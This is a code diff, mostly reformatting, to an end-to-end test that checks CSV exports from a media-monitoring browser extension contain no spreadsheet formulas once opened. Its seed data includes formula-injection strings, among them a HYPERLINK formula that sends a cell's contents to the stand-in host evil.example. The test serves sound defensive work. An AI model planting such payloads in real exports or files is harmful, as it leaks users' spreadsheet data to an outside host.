@@ -11,8 +11,12 @@ import { HOUR, mention, seed, watch } from './support/mentions';
 const HOSTILE = ['pemerintah;=1+1;x', '=HYPERLINK("https://evil.example/?"&A1,"klik")', 'warga,=2+2', '@SUM(1;2)', '-3+3', '+62 811'];
 
 let siar: SiarBrowser;
-beforeAll(async () => { siar = await launchSiar(); });
-afterAll(async () => { await siar.close(); });
+beforeAll(async () => {
+  siar = await launchSiar();
+});
+afterAll(async () => {
+  await siar.close();
+});
 
 async function download(page: SidePanelPage['page'], click: () => Promise<void>): Promise<string> {
   const file = page.waitForEvent('download');
@@ -26,7 +30,9 @@ describe('CSV exports in a spreadsheet', () => {
     const panel = await SidePanelPage.openIn(siar, 'sidepanel.html');
     await seed(panel.page, {
       watches: [watch(1, 'Banjir', '#1f77b4')],
-      mentions: HOSTILE.map((title, i) => mention(i + 1, { title, outlet: HOSTILE[(i + 1) % HOSTILE.length], summary: title, publishedAt: day + (i + 8) * HOUR })),
+      mentions: HOSTILE.map((title, i) =>
+        mention(i + 1, { title, outlet: HOSTILE[(i + 1) % HOSTILE.length], summary: title, publishedAt: day + (i + 8) * HOUR }),
+      ),
     });
     await panel.page.reload();
     await panel.ready();
@@ -40,15 +46,23 @@ describe('CSV exports in a spreadsheet', () => {
     await report.close();
 
     // An audit line whose post text is hostile (what the queue writes for a post an officer typed).
-    await siar.worker.evaluate((texts) => new Promise<void>((resolve, reject) => {
-      const open = indexedDB.open('siar');
-      open.onsuccess = () => {
-        const tx = open.result.transaction('audit', 'readwrite');
-        for (const text of texts) tx.objectStore('audit').add({ at: Date.now(), actor: text, event: 'sent', network: 'x', text, url: 'https://x.com/humas/status/1' });
-        tx.oncomplete = () => { open.result.close(); resolve(); };
-        tx.onerror = () => reject(tx.error);
-      };
-    }), HOSTILE);
+    await siar.worker.evaluate(
+      (texts) =>
+        new Promise<void>((resolve, reject) => {
+          const open = indexedDB.open('siar');
+          open.onsuccess = () => {
+            const tx = open.result.transaction('audit', 'readwrite');
+            for (const text of texts)
+              tx.objectStore('audit').add({ at: Date.now(), actor: text, event: 'sent', network: 'x', text, url: 'https://x.com/humas/status/1' });
+            tx.oncomplete = () => {
+              open.result.close();
+              resolve();
+            };
+            tx.onerror = () => reject(tx.error);
+          };
+        }),
+      HOSTILE,
+    );
     const options = await siar.openPage('options.html');
     const audit = AuditSection.on(options);
     await audit.ready();
@@ -59,7 +73,10 @@ describe('CSV exports in a spreadsheet', () => {
       const sheets = openInCalc({ mentions, clipping, audit: auditCsv }, separator);
       for (const [name, cells] of Object.entries(sheets)) {
         expect(cells.length, `${name} read with '${separator}'`).toBeGreaterThan(HOSTILE.length);
-        expect(cells.filter((cell) => cell.formula), `${name} read with '${separator}'`).toEqual([]);
+        expect(
+          cells.filter((cell) => cell.formula),
+          `${name} read with '${separator}'`,
+        ).toEqual([]);
       }
     }
   }, 600_000);
